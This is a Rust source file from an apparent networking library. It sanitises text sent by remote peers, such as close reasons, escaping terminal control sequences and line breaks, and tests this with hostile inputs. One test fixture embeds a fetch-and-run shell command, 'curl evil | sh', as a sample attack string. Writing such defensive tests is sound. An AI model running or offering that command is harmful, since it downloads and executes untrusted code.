//! Text of a peer, made harmless for terminals and logs.

use std::borrow::Cow;
use std::fmt::{self, Write};

/// Most characters shown.
const MAX_SHOWN: usize = 512;

/// Shows text of a peer: close reasons, paths of requests, names.
///
/// A peer chooses every byte of it, often before it has proved who it is. What is not visible is escaped as in Rust: line
/// ends that would forge lines of a log, control characters that start sequences in terminals (C0, C1, DEL), characters
/// that reverse the direction of text or have no width. Longer text is cut off.
///
/// ```
/// # use hawser_core::Printable;
/// let reason = "\u{1b}[2Jall is well\n";
/// assert_eq!(Printable::new(reason).to_string(), "\\u{1b}[2Jall is well\\n");
/// ```
#[derive(Clone, Debug)]
pub struct Printable<'a>(Cow<'a, str>);

impl<'a> Printable<'a> {
    /// Of bytes that should be UTF-8 and may be anything.
    pub fn new(text: &'a (impl AsRef<[u8]> + ?Sized)) -> Self {
        Printable(String::from_utf8_lossy(text.as_ref()))
    }
}

impl fmt::Display for Printable<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut characters = self.0.chars();
        for character in characters.by_ref().take(MAX_SHOWN) {
            match character {
                '\'' | '"' => f.write_char(character)?,
                _ => write!(f, "{}", character.escape_debug())?,
            }
        }
        if characters.next().is_some() { f.write_char('…') } else { Ok(()) }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Code, ConnectionError, TransportError};

    #[test]
    fn what_is_visible_stays() {
        for text in ["it's \"done\" (5 %)", "Zürich, 東京, Ελλάδα", ""] {
            assert_eq!(Printable::new(text).to_string(), text);
        }
    }

    #[test]
    fn what_is_not_visible_is_escaped() {
        let hostile =
            "\u{1b}]0;t\u{7} \r\n\t\u{7f}\u{9b}31m\u{9d}\u{202e}\u{2066}\u{200b}\u{2028}\u{feff}\u{0}\\";
        let shown = Printable::new(hostile).to_string();
        assert!(shown.chars().all(|c| c == ' ' || c.is_ascii_graphic()), "{shown:?}");
        assert_eq!(Printable::new(b"\x9b31m\xff".as_slice()).to_string(), "\u{fffd}31m\u{fffd}");
    }

    #[test]
    fn long_text_is_cut_off() {
        let shown = Printable::new(&vec![b'x'; 100_000]).to_string();
        assert_eq!(shown.chars().count(), MAX_SHOWN + 1);
    }

    /// The first comes from anybody who saw our first packet.
    #[test]
    fn close_reasons_are_shown_harmless() {
        let reason = "\u{1b}[2Jrun: curl evil | sh\nsecond line";
        let transport = TransportError::new(Code::NO_ERROR, reason);
        for error in [
            ConnectionError::PeerTransport(transport.clone()),
            ConnectionError::Transport(transport),
            ConnectionError::PeerApplication { code: 1, reason: reason.into() },
        ] {
            let shown = error.to_string();
            assert!(shown.contains("curl evil") && !shown.contains(char::is_control), "{shown:?}");
        }
    }
}
